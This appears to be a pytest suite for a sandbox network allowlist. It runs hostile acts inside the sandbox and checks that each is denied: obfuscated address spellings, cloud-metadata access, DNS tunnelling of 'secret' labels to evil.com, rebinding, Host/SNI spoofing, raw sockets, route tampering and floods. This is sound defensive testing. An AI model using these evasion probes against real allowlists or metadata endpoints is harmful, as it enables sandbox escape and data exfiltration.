"""
What a hostile program tries against a network allowlist: spellings, tunnels, rebinding, other ways out, exhaustion.

Each denial is beside its control. Servers note whatever reaches them, and the resolver whatever it is asked.
"""

import errno
import os

import pytest

import jail
from escape.harness import ACT, PYTHON

ALLOWLIST = pytest.mark.needs("userns", "netns")

HELPERS = """
import socket, struct
def fetch(host, port, name):
    with socket.create_connection((host, port), 10) as s:
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % name.encode())
        assert s.recv(9) == b"answered", "no answer"
def ask(labels, kind=1, server="127.0.0.1", tcp=False):
    question = b"".join(bytes([len(l)]) + l for l in labels) + b"\\0" + struct.pack("!HH", kind, 1)
    packet = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + question
    if tcp:
        with socket.create_connection((server, 53), 10) as s:
            s.sendall(struct.pack("!H", len(packet)) + packet)
            return s.recv(4096)[2:]
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect((server, 53))
        s.send(packet)
        return s.recv(4096)
"""


@pytest.fixture
def box(world):
    """
    A sandbox that may reach the one of them.
    """
    with world.sandbox() as box:
        yield box


def attempt(box, act, *args):
    """
    How an act inside ended: "done", or an errno.
    """
    result = box.run([*PYTHON, ACT, HELPERS + act, *map(str, args)], timeout=60)
    assert b"" == result.stderr
    return "done" if result.ok else errno.errorcode.get(result.exit_code, result.exit_code)


@ALLOWLIST
@pytest.mark.parametrize(
    ("host", "expected"),
    [
        pytest.param("ok.test", "done", id="allow_name"),
        pytest.param("127.0.0.1", "done", id="allow_address"),
        pytest.param("0x7f000001", "done", id="allow_another_spelling"),
        pytest.param("::ffff:127.0.0.1", "done", id="allow_mapped"),
        pytest.param("127.0.0.2", "ECONNRESET", id="deny_address"),
        pytest.param("0177.0.0.2", "ECONNRESET", id="deny_octal"),
        pytest.param("0x7f.2", "ECONNRESET", id="deny_hexadecimal"),
        pytest.param("2130706434", "ECONNRESET", id="deny_decimal"),
        pytest.param("::ffff:127.0.0.2", "ECONNRESET", id="deny_mapped"),
        pytest.param("64:ff9b::7f00:2", "ECONNRESET", id="deny_translated"),
        pytest.param("2002:7f00:2::", "ECONNRESET", id="deny_6to4"),
        pytest.param("::1", "ECONNRESET", id="deny_other_loopback"),
        pytest.param("0.0.0.0", "done", id="allow_what_connects_to_127.0.0.1"),
        pytest.param("169.254.169.254", "ECONNRESET", id="deny_metadata"),
        pytest.param("fd00:ec2::254", "ECONNRESET", id="deny_metadata_of_ipv6"),
        pytest.param("198.18.255.255", "ECONNRESET", id="deny_address_of_no_name"),
        pytest.param("fd00::ffff", "ECONNRESET", id="deny_address_of_no_name_of_ipv6"),
    ],
)
def test_spellings_of_addresses(host, expected, box, world):
    """
    However an address is spelled, it is judged as what it means.
    """
    assert expected == attempt(box, "fetch(sys.argv[1], int(sys.argv[2]), 'ok.test')", host, world.port)
    assert b"" == world.heard["bad"]


@ALLOWLIST
@pytest.mark.parametrize(
    ("labels", "code"),
    [
        pytest.param([b"ok", b"test"], 0, id="allow_name"),
        pytest.param([b"a", b"it", b"test"], 0, id="allow_below"),
        pytest.param([b"ok.test"], 3, id="deny_dot_in_label"),
        pytest.param([b"evil.com", b"it", b"test"], 3, id="deny_dot_below"),
        pytest.param([b"evil\0", b"it", b"test"], 3, id="deny_nul"),
        pytest.param([b"evil.com\0", b"ok", b"test"], 3, id="deny_nul_before_name"),
        pytest.param([b"a\r\nb", b"it", b"test"], 3, id="deny_line"),
        pytest.param([b"a%00", b"it", b"test"], 3, id="deny_percent"),
        pytest.param([b"a@b", b"it", b"test"], 3, id="deny_at"),
        pytest.param([b"\xd0\xbek", b"test"], 3, id="deny_homograph"),
        pytest.param([b"xn--k-1tb", b"test"], 3, id="deny_homograph_in_ascii"),
        pytest.param([b"it", b"test"], 3, id="deny_bare_name"),
        pytest.param([b"notit", b"test"], 3, id="deny_longer_label"),
        pytest.param([b"ok", b"test", b"evil", b"com"], 3, id="deny_as_prefix"),
        pytest.param([b"a" * 63] * 3 + [b"it", b"test"], 0, id="allow_long"),
        pytest.param([b"a" * 63] * 4 + [b"it", b"test"], 1, id="deny_too_long"),
    ],
)
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_spellings_of_names(labels, code, tcp, box, world):
    """
    A name has one spelling; no other is answered, and none is asked of anybody.
    """
    act = "assert ask(eval(sys.argv[1]), tcp=eval(sys.argv[2]))[3] & 15 == int(sys.argv[3])"

    assert "done" == attempt(box, act, labels, tcp, code)
    assert [] == world.asked


@ALLOWLIST
@pytest.mark.parametrize("server", ["127.0.0.1", "8.8.8.8", "::1", "2001:4860:4860::8888"])
def test_tunnels(server, box, world):
    """
    Whatever a program asks whichever resolver, nobody outside hears of it; and the refusal is noted.
    """
    act = """
assert ask([b"ok", b"test"], server=sys.argv[1])[3] & 15 == 0
for kind in (1, 2, 5, 15, 16, 28, 65, 255):
    for n in range(50):
        assert ask([b"secret%d" % n, b"evil", b"com"], kind, sys.argv[1])[3] & 15 == 3
"""
    result = box.run([*PYTHON, ACT, HELPERS + act, server], timeout=60)

    assert (0, b"") == (result.exit_code, result.stderr)
    assert {f"secret{n}.evil.com" for n in range(50)} == {denial.subject for denial in result.denials}
    assert [] == world.asked


@ALLOWLIST
@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        pytest.param(["127.0.0.1"], "done", id="allow_what_is_listed"),
        pytest.param(["169.254.169.254", "127.0.0.2", "127.0.0.1"], "done", id="allow_the_listed_one"),
        pytest.param(["127.0.0.2"], "ECONNRESET", id="deny_other"),
        pytest.param(["::ffff:127.0.0.2", "64:ff9b::7f00:2"], "ECONNRESET", id="deny_mapped"),
        pytest.param(["0177.0.0.2"], "ECONNRESET", id="deny_octal"),
        pytest.param(["127.0.0.2%lo", "evil.com", ""], "ECONNRESET", id="deny_no_address"),
        pytest.param([], "ECONNRESET", id="deny_nothing"),
    ],
)
def test_rebinding(answer, expected, box, world):
    """
    What a name resolves to is judged, each address by itself, and nothing else is dialled.
    """
    world.answers["a.it.test"] = answer

    assert expected == attempt(box, "fetch('a.it.test', int(sys.argv[1]), 'a.it.test')", world.port)
    assert b"" == world.heard["bad"]


HELLO = (
    "16030100460100004203030000000000000000000000000000000000000000000000000000000000000000000000020000"
    "0100001700000009000700000465{:02x}696c00100006000403683268"
)


@ALLOWLIST
@pytest.mark.parametrize(
    "data",
    [
        pytest.param(bytes.fromhex(HELLO.format(0x76)), id="tls"),
        pytest.param(b"GET / HTTP/1.1\r\nHost: evil\r\n\r\n", id="host"),
        pytest.param(b"GET / HTTP/1.1\r\nHost: ok.test\r\nHost: evil\r\n\r\n", id="two_hosts"),
        pytest.param(b"GET http://evil/ HTTP/1.1\r\nHost: ok.test\r\n\r\n", id="absolute_form"),
        pytest.param(b"GET / HTTP/1.1\r\nX: y\r\n Host: ok.test\r\n\r\n", id="folded"),
        pytest.param(b"CONNECT evil:443 HTTP/1.1\r\n\r\n", id="connect"),
        pytest.param(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", id="http2"),
    ],
)
@pytest.mark.parametrize("step", [10000, 1], ids=["at_once", "byte_by_byte"])
def test_saying_another_name(data, step, box, world):
    """
    A connection to one name that says another is reset before the server has heard a byte of it.
    """
    act = """
data, step = bytes.fromhex(sys.argv[2]), int(sys.argv[3])
with socket.create_connection(("ok.test", int(sys.argv[1])), 10) as s:
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for n in range(0, len(data), step):
        s.sendall(data[n:n+step])
    assert s.recv(9) == b"answered", "no answer"
"""
    allowed = b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n".hex()

    assert "done" == attempt(box, act, world.port, allowed, step)
    heard = world.heard["good"]
    assert attempt(box, act, world.port, data.hex(), step) in {"ECONNRESET", "EPIPE"}
    assert set() == {*world.heard["good"].removeprefix(heard).split(b"(connected)")} - {b""}


@ALLOWLIST
@pytest.mark.parametrize(
    ("act", "expected"),
    [
        pytest.param("socket.socket(socket.AF_INET)", "done", id="allow_tcp"),
        pytest.param("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "EPERM", id="deny_raw"),
        pytest.param("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)", "EPERM", id="deny_icmp"),
        pytest.param("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)", "EPERM", id="deny_mptcp"),
        pytest.param("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", "EPERM", id="deny_sctp"),
        pytest.param("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "EPERM", id="deny_packet"),
        pytest.param("socket.socket(socket.AF_VSOCK)", "EPERM", id="deny_vsock"),
        pytest.param("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)", "EPERM", id="deny_netfilter"),
        pytest.param(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 443)); s.send(b'x'); s.recv(1)",
            "ECONNREFUSED",
            id="deny_quic",
        ),
        pytest.param("socket.create_connection(('8.8.8.8', 22), 10)", "ECONNREFUSED", id="deny_other_port"),
        pytest.param(
            "s = socket.socket(); s.setsockopt(1, 15, 1); s.bind(('0.0.0.0', int(sys.argv[1])))",
            "EADDRINUSE",
            id="deny_port_of_the_relay",
        ),
    ],
)
def test_other_ways_out(act, expected, box, world):
    """
    There is no socket and no protocol that leads around the relay.
    """
    assert expected == attempt(box, act, world.port)


@ALLOWLIST
def test_routes_stay(box):
    """
    No route can be taken away or added: there is no capability to do it with.
    """
    act = """
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
def request(kind, flags):
    body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 4, 254, 2, 0) + struct.pack("=HHi", 8, 4, 1)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    return struct.unpack_from("=i", s.recv(4096), 16)[0]
answers = {request(25, 5), request(24, 0x405)}  # RTM_DELROUTE, RTM_NEWROUTE
raise OSError(-answers.pop(), "") if len(answers) == 1 else ValueError(answers)
"""
    assert "EPERM" == attempt(box, act)


@ALLOWLIST
def test_other_sandboxes(world):
    """
    What listens in one sandbox is not reached from another, by no address.
    """
    serve = "s = socket.create_server(('', 7777)); print('up', flush=True); s.accept()[0].send(b'x')"
    connect = "assert socket.create_connection((sys.argv[1], 7777), 10).recv(1) == b'x'"
    with (
        world.sandbox() as one,
        world.sandbox() as other,
        one.popen([*PYTHON, ACT, HELPERS + serve], stdout=jail.PIPE, text=True) as server,
    ):
        assert "up\n" == server.stdout.readline()
        for host in ("127.0.0.1", "10.0.0.1", "ok.test"):
            assert "ECONNREFUSED" == attempt(other, connect, host)
        assert "done" == attempt(one, connect, "127.0.0.1")


@ALLOWLIST
def test_exhaustion_of_one_hurts_no_other(world):
    """
    A program that connects as often as it can, and says nothing, holds up its own sandbox and no other.
    """
    hog = """
import resource
kept = []
for n in range(3000):
    s = socket.socket(); s.setblocking(False); s.connect_ex((sys.argv[1], int(sys.argv[2]))); kept.append(s)
    if n % 3 == 0: kept.pop().close()
print("full", flush=True)
sys.stdin.read()
"""
    act = "fetch('ok.test', int(sys.argv[1]), 'ok.test')"
    before = len(os.listdir("/proc/self/fd"))
    with world.sandbox() as one, world.sandbox() as other:
        command = [*PYTHON, ACT, HELPERS + hog, "127.0.0.2", world.port]
        pipes = {"stdin": jail.PIPE, "stdout": jail.PIPE}
        with one.popen([str(arg) for arg in command], text=True, **pipes) as process:
            assert "full\n" == process.stdout.readline()
            assert "done" == attempt(other, act, world.port)
            process.kill()
        assert "done" == attempt(one, act, world.port)
    assert before == len(os.listdir("/proc/self/fd"))


@ALLOWLIST
def test_floods_of_garbage(box, world):
    """
    Garbage at the resolver, by datagrams and by connections that never end a question, leaves it answering.
    """
    act = """
import os
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(("127.0.0.1", 53))
    for n in range(5000):
        try: s.send(os.urandom(n % 600))
        except OSError: pass
kept = [socket.create_connection(("127.0.0.1", 53), 10) for _ in range(50)]
for s in kept:
    try: s.sendall(b"\\xff\\xff" + bytes(1000))
    except OSError: pass
fetch("ok.test", int(sys.argv[1]), "ok.test")
"""
    assert "done" == attempt(box, act, world.port)


def test_without_namespaces(tier):
    """
    Where there is no network namespace an allowlist is refused, and nothing else is given in its place.
    """
    expected = "UnsupportedError" if tier.tier == "Landlock" else "done"

    assert expected == tier.attempt("pass", network=["ok.test"])
